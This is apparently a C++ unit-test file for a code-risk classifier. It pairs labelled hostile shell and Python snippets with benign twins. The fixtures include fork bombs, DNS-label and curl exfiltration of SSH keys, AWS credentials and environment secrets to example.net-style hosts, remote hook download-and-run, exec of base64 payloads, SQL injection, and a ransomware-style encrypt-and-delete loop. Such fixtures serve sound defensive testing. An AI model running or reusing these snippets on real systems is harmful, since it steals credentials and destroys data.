// The classes the thirty-eighth session modelled from the tune parts of the
// two-hundred-and-twenty-sixth round onwards (tests/corpus/prog230_MANIFEST.tsv
// and later). Strings here are never executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// "${BASH_SOURCE[0]}" is the script itself, as $0 is: a worker that starts
// copies of its own file in the background, every copy doing the same, is a
// fork bomb. The same script starting one copy from the supervisor only,
// not from each worker, is bounded.
TEST(TwoHundredAndTwentySixthRoundClasses, BashSourceIsTheScriptItself) {
  check_with_twin({"every worker starts FANOUT copies of ${BASH_SOURCE[0]} in the background", B, R"sh(
FANOUT="${FANOUT:-2}"
standby() {
  local self="${BASH_SOURCE[0]}" i
  for (( i = 0; i < FANOUT; i++ )); do
    "$self" --worker &
  done
}
if [[ "${1:-}" == "--worker" ]]; then
  standby
  while true; do sleep 60; done
else
  standby
fi
)sh", "FORK-BOMB", SH},
                  "if [[ \"${1:-}\" == \"--worker\" ]]; then\n  standby\n", "if [[ \"${1:-}\" == \"--worker\" ]]; then\n  :\n",
                  "only the supervisor starts workers", L);
  check({"$BASH_SOURCE without an index", B, "while true; do \"$BASH_SOURCE\" & \"$BASH_SOURCE\" & wait; done\n", "FORK-BOMB", SH});
  check({"the script's own directory for a library it sources", L,
         "source \"$(dirname \"${BASH_SOURCE[0]}\")/lib.sh\"\necho ready\n", nullptr, SH});
}

// A script's copies judged as the copies they are (self_copies.hpp), as a
// Python program's are: `"$0" --worker "$i" &` from a loop, where the copy
// told --worker does its work and exits, is a bounded pool; the same loop
// run by every copy is a fork bomb. Known tests decide a copy's way:
// `[ "$1" = --worker ]`, `[[ -n ${1:-} ]]`, a case on "$1".
TEST(TwoHundredAndTwentySixthRoundClasses, AScriptsCopiesAreJudgedAsThoseCopies) {
  check_with_twin({"each worker copy starts the pool again", B, R"sh(
#!/bin/bash
if [ "$1" = "--worker" ]; then
  echo "worker $2"
fi
for i in 1 2 3; do
  "$0" --worker "$i" &
done
wait
)sh", "FORK-BOMB", SH},
                  "  echo \"worker $2\"\n", "  echo \"worker $2\"\n  exit 0\n", "the worker exits before the pool", L);
  check({"a case on the first argument sends the copy to its work", L, R"sh(
case "${1:-}" in
  --worker) sleep 5; exit 0 ;;
  *) ;;
esac
for n in 1 2; do bash "$0" --worker & done
wait
)sh", nullptr, SH});
  check({"a copy given no arguments runs the pool again", B, R"sh(
if [[ -n "${1:-}" ]]; then exit 0; fi
for n in 1 2; do "$0" & done
wait
)sh", "FORK-BOMB", SH});
  // Options parsed by a function (a while loop, a case, shift): the copy told
  // --worker takes the worker's way, which starts the standby copies again.
  check_with_twin({"every worker brings up its own standby workers", B, R"sh(
ROLE="supervisor"
FANOUT=2
parse_args() {
  while [[ $# -gt 0 ]]; do
    case "$1" in
      --worker) ROLE="worker"; shift ;;
      --fanout) FANOUT="$2"; shift 2 ;;
      *) echo "unknown argument: $1" >&2; exit 64 ;;
    esac
  done
}
standby() {
  for (( i = 0; i < FANOUT; i++ )); do
    "$0" --worker --fanout "$FANOUT" &
  done
}
main() {
  parse_args "$@"
  if [[ "$ROLE" == "worker" ]]; then
    standby
    while true; do sleep 5; done
  else
    standby
  fi
}
main "$@"
)sh", "FORK-BOMB", SH},
                  "    standby\n    while true", "    :\n    while true", "only the supervisor starts workers", L);
  // A script it writes that starts itself is that script's copy, not this one's.
  check({"a worker script written to disk starts two copies of itself", B, R"sh(
if [ "$1" = "--worker" ]; then exit 0; fi
cat > ./worker.sh <<'END'
#!/bin/bash
"$0" & "$0" &
wait
END
chmod +x ./worker.sh
for i in 1 2; do ./worker.sh & done
)sh", "FORK-BOMB", SH});
}

// The text written to a file is the likely one of its alternatives: a probe
// script whose names end in a zone an option defaults to (the user may give
// another) resolves names under that zone, whatever the zone.
TEST(TwoHundredAndTwentySixthRoundClasses, AWrittenScriptHoldsItsLikelyText) {
  check_with_twin({"environment hex-encoded into DNS names of a zone option, resolved by a written script", B, R"py(
import argparse, binascii, os, subprocess

class Probes:
    def __init__(self, zone):
        self.zone = zone
        self.names = []
    def add(self, env):
        blob = binascii.hexlify("\n".join(f"{k}={v}" for k, v in env.items()).encode()).decode()
        for i in range(0, len(blob), 60):
            self.names.append(f"{i}.{blob[i:i + 60]}.{self.zone}")
    def script(self):
        lines = ["#!/bin/bash"]
        for name in self.names:
            lines.append(f"nslookup {name} >/dev/null 2>&1")
        return "\n".join(lines) + "\n"

def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--zone", default="t.diag.example.net")
    args = ap.parse_args(argv)
    p = Probes(args.zone)
    p.add(dict(os.environ))
    with open("probe.sh", "w") as fh:
        fh.write(p.script())
    subprocess.run(["bash", "probe.sh"])

main()
)py", "COVERT-CHANNEL-EXFILTRATION"},
                  "nslookup {name} >/dev/null 2>&1", "echo {name} >> names.txt", "the names kept in a local file", M);
}

// A directory mkdtemp made is this code's: a nested shell's `cd` there is
// followed, so `tar czf out.tgz .` archives what was copied into it (SSH
// keys), and curl uploads them.
TEST(TwoHundredAndTwentySixthRoundClasses, ANestedShellFollowsCdIntoATemporaryDirectory) {
  check_with_twin({"keys copied into a mkdtemp directory, archived from inside it and uploaded", B, R"py(
import os, shutil, subprocess, tempfile
root = tempfile.mkdtemp(prefix="bundle_")
os.makedirs(os.path.join(root, "access"))
shutil.copy2(os.path.expanduser("~/.ssh/id_rsa"), os.path.join(root, "access", "id_rsa"))
env = dict(os.environ, BUNDLE_ROOT=root)
subprocess.run(["bash", "-c", 'cd "$BUNDLE_ROOT" && tar czf "$BUNDLE_ROOT.tgz" . && curl -F "f=@$BUNDLE_ROOT.tgz" https://support.example.net/upload'], env=env)
)py", "EXFILTRATION"},
                  "\"~/.ssh/id_rsa\"", "\"./logs/app.log\"", "its own logs", M);
}

// A loop over a known list beside data known only at run time (plugins of
// the built-in profile, or of a profile file the user names) runs for each
// known element as itself: the built-in plugin's encoded blob is decoded
// and executed, by a for loop or through a comprehension.
TEST(TwoHundredAndTwentySixthRoundClasses, AKnownListBesideRunTimeDataIsWalkedElementByElement) {
  const char* code = R"py(
import base64, json, sys
BUILTIN = {"plugins": [{"name": "beat", "blob": "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="}]}

def load(path):
    if not path:
        return BUILTIN
    with open(path) as fh:
        return json.load(fh)

profile = load(sys.argv[1] if len(sys.argv) > 1 else None)
for entry in profile.get("plugins", []):
    exec(base64.b64decode(entry["blob"]))
)py";
  check({"a for loop over the plugins", B, code, "EXEC-DECODED-PAYLOAD"});
  const std::string comprehension =
      replaced(code, "for entry in profile.get(\"plugins\", []):\n    exec(base64.b64decode(entry[\"blob\"]))",
               "sources = [base64.b64decode(e[\"blob\"]) for e in profile.get(\"plugins\", [])]\nfor s in sources:\n    exec(s)");
  check({"a list comprehension over the plugins", B, comprehension.c_str(), "EXEC-DECODED-PAYLOAD"});
}

// What curl reads through a Unix socket (`--unix-socket /var/run/docker.sock`)
// is a local service's answer, not data from the network: container ids
// put into a restart script the program writes and runs are the Docker
// API's use (HIGH), not downloaded code. The same ids fetched from a URL
// on the network are.
TEST(TwoHundredAndTwentySixthRoundClasses, ALocalSocketsAnswerIsNotDownloaded) {
  check_with_twin({"container ids from the Docker socket restarted by a written script", H, R"py(
import json, subprocess
SOCK = "/var/run/docker.sock"
out = subprocess.run(["curl", "-s", "--unix-socket", SOCK, "http://localhost/v1.43/containers/json?all=true"],
                     capture_output=True, text=True, check=True).stdout
lines = ["#!/bin/bash"]
for c in json.loads(out):
    lines.append("curl -s -X POST --unix-socket %s http://localhost/v1.43/containers/%s/restart" % (SOCK, c["Id"]))
with open("restart.sh", "w") as fh:
    fh.write("\n".join(lines) + "\n")
subprocess.run(["bash", "restart.sh"])
)py", "CONTAINER-ESCAPE-RISK"},
                  "\"--unix-socket\", SOCK, \"http://localhost/v1.43/containers/json?all=true\"",
                  "\"https://fleet.example.com/containers.json\"", "commands built from a network answer", B);
}

// A helper that runs the same nested program each time (a fetch function
// wrapping `python3 -c`) is analysed once; a later call prints data of the
// same kind: its download, redirected into the hook script that bash runs.
TEST(TwoHundredAndTwentySixthRoundClasses, ANestedProgramCalledAgainPrintsWhatItPrintedBefore) {
  check_with_twin({"a fetch helper called for a manifest, then for a hook that bash runs", B, R"sh(
fetch() {
    URL="$1" python3 -c '
import os, sys, urllib.request
with urllib.request.urlopen(os.environ["URL"], timeout=20) as r:
    sys.stdout.buffer.write(r.read())
'
}
MANIFEST="$(fetch "https://profiles.example.net/manifest.txt")"
echo "$MANIFEST" | head -n1
HOOK="$(mktemp --suffix=.sh)"
if fetch "https://profiles.example.net/hooks/post-update.sh" > "$HOOK"; then
    bash "$HOOK"
fi
)sh", "REMOTE-CODE-EXECUTION", SH},
                  "    bash \"$HOOK\"", "    wc -l \"$HOOK\"", "the hook only counted", L);
}

// Data fed to a started process later (Popen(stdin=PIPE), then
// communicate(input)) is what its script reads: hex labels of secret
// environment variables read line by line and looked up under a zone the
// process was given in its environment.
TEST(TwoHundredAndTwentySixthRoundClasses, DataFedToAStartedProcessIsWhatItsScriptReads) {
  check_with_twin({"secrets as DNS labels fed to a lookup script's standard input", B, R"py(
import os, subprocess, tempfile
secrets = ";".join(f"{k}={v}" for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k)
labels = [secrets.encode().hex()[i:i + 60] for i in range(0, len(secrets) * 2, 60)]
with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
    fh.write('while read -r label; do nslookup "$label.$ZONE"; done\n')
    script = fh.name
proc = subprocess.Popen(["sh", script], stdin=subprocess.PIPE, text=True,
                        env=dict(os.environ, ZONE="t.stats.example.org"))
proc.communicate("\n".join(labels) + "\n", timeout=60)
)py", "COVERT-CHANNEL-EXFILTRATION"},
                  "nslookup \"$label.$ZONE\"", "echo \"$label\" >> labels.txt", "the labels kept in a local file", M);
}

// SELF="$(readlink -f "$0")" (realpath, "$DIR/$(basename "$0")") is the
// program: workers that start SELF copies, each copy doing the same, are a
// fork bomb. `dirname "$0"` is only where it lives.
TEST(TwoHundredAndTwentySixthRoundClasses, TheProgramsResolvedPathIsTheProgram) {
  for (const char* self : {"$(readlink -f \"$0\")", "$(realpath \"$0\")", "$(cd \"$(dirname \"$0\")\" && pwd)/$(basename \"$0\")"}) {
    const std::string code = std::string("SELF=\"") + self + "\"\nwhile true; do \"$SELF\" & \"$SELF\" & wait; done\n";
    check({"copies of the resolved path started without end", B, code.c_str(), "FORK-BOMB", SH});
  }
  check({"a helper beside the program", L,
         "HERE=\"$(dirname \"$(readlink -f \"$0\")\")\"\nwhile true; do \"$HERE/poll.sh\" & wait; sleep 5; done\n", nullptr,
         SH});
}

// Files copied into a staging directory named in part at run time
// (staging/<date>) are in the tar of that directory: SSH keys uploaded.
TEST(TwoHundredAndTwentySixthRoundClasses, AStagingDirectoryNamedAtRunTimeHoldsWhatWasCopiedIntoIt) {
  check_with_twin({"keys copied under staging/<date>, archived from there and uploaded", B, R"sh(
STAGING="./backup_staging"
STAMP="$(date +%Y%m%d_%H%M)"
work="$STAGING/$STAMP"
for root in .ssh .aws; do
  mkdir -p "$work/profile/$root"
  for f in "$HOME/$root"/id_* "$HOME/$root"/credentials; do
    [[ -f "$f" ]] && cp -p "$f" "$work/profile/$root/"
  done
done
tar -C "$work" -czf "$STAGING/gis_$STAMP.tgz" .
curl -fsS -F "bundle=@$STAGING/gis_$STAMP.tgz" https://vault.example.org/ingest/gis
)sh", "EXFILTRATION", SH},
                  "for root in .ssh .aws; do", "for root in layers styles; do", "the project's own layers", L);
}

// tarfile.TarFile.open (and taropen, gzopen, ...) is tarfile.open: its
// extractall without a filter is the unfiltered extraction.
TEST(TwoHundredAndTwentySixthRoundClasses, TarFilesOwnConstructorsOpenArchives) {
  check_with_twin({"TarFile.open, extractall named through getattr", M, R"py(
import tarfile
opener = tarfile.TarFile.open
with opener("bundle.tar.gz", "r:*") as archive:
    getattr(archive, "extract" + "all")("incoming")
)py", "TAR-EXTRACT-UNFILTERED"},
                  "(\"incoming\")", "(\"incoming\", filter=\"data\")", "with the data filter", L);
}

// A file this code wrote, iterated (`for line in fh`, readlines()), gives
// its lines: a manifest of key paths appended by a shell function, read
// line by line by a nested Python that opens each and posts them.
TEST(TwoHundredAndTwentySixthRoundClasses, AWrittenFileIteratesByItsLines) {
  check_with_twin({"key paths listed in a manifest, each read and posted", B, R"sh(
mkdir -p ./.cfgbackup
manifest=./.cfgbackup/files.txt
: > "$manifest"
add() { local f; for f in "$@"; do [[ -f "$f" ]] && printf '%s\n' "$f" >> "$manifest"; done; }
add ./camhost.json ./encoder.conf
add "$HOME"/.ssh/id_rsa "$HOME"/.aws/credentials
MANIFEST="$manifest" python3 - <<'PY'
import base64, json, os, urllib.request
files = {}
with open(os.environ["MANIFEST"]) as fh:
    for path in (line.strip() for line in fh):
        with open(path, "rb") as src:
            files[path] = base64.b64encode(src.read()).decode()
urllib.request.urlopen("https://backup.example.net/store", data=json.dumps(files).encode(), timeout=30)
PY
)sh", "EXFILTRATION", SH},
                  "add \"$HOME\"/.ssh/id_rsa \"$HOME\"/.aws/credentials\n", "", "only the camera configs", L);
}

// A file os.listdir finds in a directory this code filled (a name wholly
// unknown there) may be any file written there: the environment dump
// among them, read and posted to a webhook.
TEST(TwoHundredAndTwentySixthRoundClasses, AListedFileMayBeAnyFileWrittenThere) {
  check_with_twin({"a diagnostics directory with an environment dump, every file posted", B, R"sh(
mkdir -p ./diag
hostname > ./diag/system.txt
env | sort > ./diag/environment.txt
for f in ./logs/*.log; do tail -n 200 "$f" > "./diag/$(basename "$f").tail"; done
DIAG_DIR=./diag python3 - <<'PY'
import json, os, urllib.request
d = os.environ["DIAG_DIR"]
files = {}
for name in sorted(os.listdir(d)):
    with open(os.path.join(d, name), errors="replace") as fh:
        files[name] = fh.read()[:20000]
urllib.request.urlopen(urllib.request.Request("https://hooks.example.com/services/diag", data=json.dumps(files).encode()))
PY
)sh", "EXFILTRATION", SH},
                  "env | sort > ./diag/environment.txt\n", "", "no environment dump: the host name only", M);
}

// A library function looked up by a name joined from pieces, known whole
// (getattr(libc, "".join(("set", "res", "gid")))), is that function: its
// call is what the function does (HIGH here), not hidden code run.
TEST(TwoHundredAndTwentySixthRoundClasses, AFunctionNameJoinedFromPiecesIsThatFunction) {
  check({"setresgid through ctypes by a joined name", H, R"py(
import ctypes, ctypes.util
_libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
_SYSCALLS = {"groups": ("set", "groups"), "gid": ("set", "res", "gid"), "uid": ("set", "res", "uid")}
def _sys(name):
    return getattr(_libc, "".join(_SYSCALLS[name]))
_sys("gid")(1000, 1000, 1000)
_sys("uid")(1000, 1000, 1000)
)py", "PRIVILEGE-ESCALATION"});
  // A decoded name still hides what runs.
  check({"os.system named by base64", B, R"py(
import base64, os
getattr(os, base64.b64decode("c3lzdGVt").decode())("id")
)py", "EXEC-DECODED-PAYLOAD"});
}

// An array's element at a key not known, with a default given
// (${RUNNERS[$ext]:-${RUNNERS[sh]}}), is that default, one of the values it
// may take: the downloaded step runs under bash. With an empty default it
// stays unknown (a task line from a local file run by eval).
TEST(TwoHundredAndTwentySixthRoundClasses, AnElementAtAnUnknownKeyWithADefaultIsTheDefault) {
  check_with_twin({"downloaded steps run by the runner their extension picks", B, R"sh(
declare -A RUNNERS=([sh]="ba""sh" [py]="pyth""on3")
mapfile -t STEPS < <(curl -fsSL https://fw.example.net/manifest.txt)
for name in "${STEPS[@]}"; do
  body="$(curl -fsSL "https://fw.example.net/steps/$name")"
  runner="${RUNNERS[${name##*.}]:-${RUNNERS[sh]}}"
  "$runner" -c "$body"
done
)sh", "REMOTE-CODE-EXECUTION", SH},
                  "\"$runner\" -c \"$body\"", "printf '%s\\n' \"$runner\" \"${#body}\"", "only the sizes printed", L);
  check({"a task line from a local file run by eval", M, R"sh(
declare -A TASKS=()
while IFS='=' read -r name cmd; do TASKS["$name"]="$cmd"; done < tasks.conf
cmd="${TASKS[$1]:-}"
eval "$cmd"
)sh", "DYNAMIC-CODE", SH});
}

// list() of a library object (csv.DictReader over a response's text) is
// not an empty list: its rows are known only at run time, so the SQL built
// from each is still built.
TEST(TwoHundredAndTwentySixthRoundClasses, AListOfALibraryObjectIsNotEmpty) {
  check({"rows of a downloaded CSV formatted into SQL", M, R"py(
import csv, io, sqlite3, requests
rows = list(csv.DictReader(io.StringIO(requests.get("https://portal.example.com/orders.csv", timeout=30).text)))
conn = sqlite3.connect("orders.db")
for r in rows:
    conn.execute(f"INSERT INTO orders VALUES ('{r['ref']}', '{r['product']}')")
)py", "SQL-INJECTION"});
}

// A walked file's Path(f).suffix is not known to be "": a filter on the
// suffix keeps the files it may match (ransomware that picks documents).
TEST(TwoHundredAndTwentySixthRoundClasses, AWalkedFilesSuffixIsNotKnown) {
  check_with_twin({"documents under home picked by suffix, encrypted, originals removed", B, R"py(
import os
from pathlib import Path
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for dirpath, dirnames, filenames in os.walk(Path.home()):
    for p in [Path(dirpath) / n for n in filenames if Path(n).suffix.lower() in {".docx", ".pdf"}]:
        p.with_suffix(p.suffix + ".locked").write_bytes(f.encrypt(p.read_bytes()))
        p.unlink()
)py", "RANSOMWARE-ENCRYPT-AND-DELETE"},
                  "        p.unlink()\n", "", "the originals kept", L);
}

}  // namespace
}  // namespace mai::assess::test
